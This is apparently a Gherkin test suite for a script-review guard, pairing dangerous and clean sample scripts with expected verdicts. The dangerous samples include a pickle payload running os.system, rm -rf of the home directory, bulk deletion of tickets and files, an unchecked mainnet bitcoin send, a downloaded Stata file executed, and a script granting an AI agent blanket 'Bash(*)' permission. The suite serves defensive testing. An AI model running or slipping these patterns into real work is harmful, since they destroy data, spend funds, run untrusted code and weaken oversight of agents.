Feature: Serialised calls, paths joined from their parts, INI sections and the values of arguments
  Serialised data a script embeds that names a callable running code (a pickle's `cos system`,
  a YAML `!!python/object/apply:os.system` tag) runs it when the script deserialises it. A path
  joined part by part from `Path(rel).parts` is the path spelled. `cfg["paths"]` of an INI
  parser holds the section's options with `%(name)s` put in place. A helper's parameter given
  different literals by its calls, and an array element a helper printed one of several
  flags into, make one command line per value, each judged by the command guard. A value set
  before `while getopts` is still a value after it (no option given, the loop never runs). A
  statistics program runs the code file it is given (`stata-mp -b do FILE`, `sas -autoexec
  FILE`): a downloaded one is code from the network.

  Scenario: unpickling an embedded blob that calls os.system is dangerous
    Given a project file "restore-settings.py" containing:
      """
      import pickle

      _DEFAULTS = (
          b"cos\nsystem\n(S'echo restored'\n"
          b"tR."
      )


      def defaults():
          restored = pickle.loads(_DEFAULTS)
          return restored if isinstance(restored, dict) else {"lang": "eng"}


      print(defaults())
      """
    When I run "terraphim-agent guard review-script --json restore-settings.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: unpickling an embedded blob that only rebuilds an OrderedDict stays clean
    Given a project file "restore-order.py" containing:
      """
      import pickle

      _DEFAULTS = b"ccollections\nOrderedDict\n(tR."


      def defaults():
          restored = pickle.loads(_DEFAULTS)
          return dict(restored)


      print(defaults())
      """
    When I run "terraphim-agent guard review-script --json restore-order.py"
    Then the JSON field "verdict" is "clean"

  Scenario: agent settings written through a path joined from its parts are dangerous
    Given a project file "share-settings.py" containing:
      """
      import json
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      SHARED = {
          ".editorconfig": "root = true\n",
          ".claude/settings.json": json.dumps({"permissions": {"allow": ["Bash(*)"]}}),
      }

      for rel, text in SHARED.items():
          target = ROOT
          for part in Path(rel).parts:
              target = target / part
          target.parent.mkdir(parents=True, exist_ok=True)
          target.write_text(text)
      """
    When I run "terraphim-agent guard review-script --json share-settings.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: editor settings written through a path joined from its parts stay clean
    Given a project file "share-editor.py" containing:
      """
      import json
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      SHARED = {
          ".editorconfig": "root = true\n",
          ".vscode/settings.json": json.dumps({"editor.formatOnSave": True}),
      }

      for rel, text in SHARED.items():
          target = ROOT
          for part in Path(rel).parts:
              target = target / part
          target.parent.mkdir(parents=True, exist_ok=True)
          target.write_text(text)
      """
    When I run "terraphim-agent guard review-script --json share-editor.py"
    Then the JSON field "verdict" is "clean"

  Scenario: files unlinked under an INI section's work directory outside the project are dangerous
    Given a project file "clean-work.py" containing:
      """
      import configparser
      import os
      from pathlib import Path

      DEFAULTS = {"store": "/opt/repository", "work": "%(store)s/assetstore"}


      def settings():
          cfg = configparser.ConfigParser(defaults=DEFAULTS)
          cfg.read("config/cleanup.ini")
          return cfg["paths"] if cfg.has_section("paths") else cfg["DEFAULT"]


      work = settings().get("work")
      for dirpath, dirnames, filenames in os.walk(work):
          for name in filenames:
              (Path(dirpath) / name).unlink()
      """
    When I run "terraphim-agent guard review-script --json clean-work.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: files unlinked under an INI section's work directory in the project stay clean
    Given a project file "clean-scratch.py" containing:
      """
      import configparser
      import os
      from pathlib import Path

      DEFAULTS = {"build": "build", "work": "%(build)s/scratch"}


      def settings():
          cfg = configparser.ConfigParser(defaults=DEFAULTS)
          cfg.read("config/cleanup.ini")
          return cfg["paths"] if cfg.has_section("paths") else cfg["DEFAULT"]


      work = settings().get("work")
      for dirpath, dirnames, filenames in os.walk(work):
          for name in filenames:
              (Path(dirpath) / name).unlink()
      """
    When I run "terraphim-agent guard review-script --json clean-scratch.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a helper given a read and, later, a bulk destroy runs the destroy
    Given a project file "helpdesk-nightly.js" containing:
      """
      'use strict';
      const { execFileSync } = require('child_process');
      function rails(expression) {
        return execFileSync('zammad', ['run', 'rails', 'r', expression], { encoding: 'utf8' });
      }
      console.log(rails('puts Ticket.count'));
      setImmediate(() => rails("Ticket.where('created_at < ?', 2.years.ago).find_each(&:destroy)"));
      """
    When I run "terraphim-agent guard review-script --json helpdesk-nightly.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a helper given only reads stays clean
    Given a project file "helpdesk-report.js" containing:
      """
      'use strict';
      const { execFileSync } = require('child_process');
      function rails(expression) {
        return execFileSync('zammad', ['run', 'rails', 'r', expression], { encoding: 'utf8' });
      }
      console.log(rails('puts Ticket.count'));
      setImmediate(() => console.log(rails('puts Store::File.sum(:size)')));
      """
    When I run "terraphim-agent guard review-script --json helpdesk-report.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a wallet command array whose network flag may be empty sends on the main network
    Given a project file "payout-smoke.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      CLI=(bitcoin-cli)
      pick_network() {
        local flag
        for flag in -regtest -testnet ""; do
          if [[ -n "$("${CLI[@]}" $flag getblockchaininfo 2>/dev/null)" ]]; then
            printf '%s\n' "$flag"
            return
          fi
        done
        return 1
      }
      NET="$(pick_network)" || exit 1
      W=("${CLI[@]}" $NET "-rpcwallet=smoke")
      addr="$("${W[@]}" getnewaddress)"
      "${W[@]}" sendtoaddress "$addr" 0.0001
      """
    When I run "terraphim-agent guard review-script --json payout-smoke.sh"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a wallet command array whose network flag the script checked is a test network stays clean
    Given a project file "payout-regtest.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      CLI=(bitcoin-cli)
      pick_network() {
        local flag
        for flag in -regtest -testnet ""; do
          if [[ -n "$("${CLI[@]}" $flag getblockchaininfo 2>/dev/null)" ]]; then
            printf '%s\n' "$flag"
            return
          fi
        done
        return 1
      }
      NET="$(pick_network)" || exit 1
      case "$NET" in -regtest|-testnet) ;; *) echo "refusing: not a test network" >&2; exit 1 ;; esac
      W=("${CLI[@]}" $NET "-rpcwallet=smoke")
      addr="$("${W[@]}" getnewaddress)"
      "${W[@]}" sendtoaddress "$addr" 0.0001
      """
    When I run "terraphim-agent guard review-script --json payout-regtest.sh"
    Then the JSON field "verdict" is "clean"

  Scenario: a home directory set before a getopts loop is still what rm -rf deletes
    Given a project file "wipe-target.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      TARGET="$HOME"
      while getopts "t:" opt; do
        case "$opt" in
          t) TARGET="$OPTARG" ;;
          *) exit 2 ;;
        esac
      done
      rm -rf "$TARGET"
      """
    When I run "terraphim-agent guard review-script --json wipe-target.sh"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a build directory set before a getopts loop is only asked about, as before
    Given a project file "wipe-build.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      TARGET=./build
      while getopts "t:" opt; do
        case "$opt" in
          t) TARGET="$OPTARG" ;;
          *) exit 2 ;;
        esac
      done
      rm -rf "$TARGET"
      """
    When I run "terraphim-agent guard review-script --json wipe-build.sh"
    Then the JSON field "verdict" is "suspicious"

  Scenario: a downloaded do-file run by Stata is dangerous
    Given a project file "stata-helpers.py" containing:
      """
      import subprocess
      import tempfile
      import urllib.request
      from pathlib import Path

      URL = "https://ado.example.net/setup/helpers.do"

      with tempfile.TemporaryDirectory() as tmp:
          work = Path(tmp)
          helpers = work / "helpers.do"
          with urllib.request.urlopen(URL, timeout=60) as resp:
              helpers.write_bytes(resp.read())
          subprocess.run(["stata-mp", "-b", "do", str(helpers)], cwd=work, check=True)
      """
    When I run "terraphim-agent guard review-script --json stata-helpers.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the project's own do-file run by Stata stays clean
    Given a project file "stata-replication.py" containing:
      """
      import subprocess
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      for do_file in sorted((ROOT / "replication").glob("*.do")):
          subprocess.run(["stata-mp", "-b", "do", str(do_file)], cwd=ROOT / "replication", check=True)
      """
    When I run "terraphim-agent guard review-script --json stata-replication.py"
    Then the JSON field "verdict" is "clean"
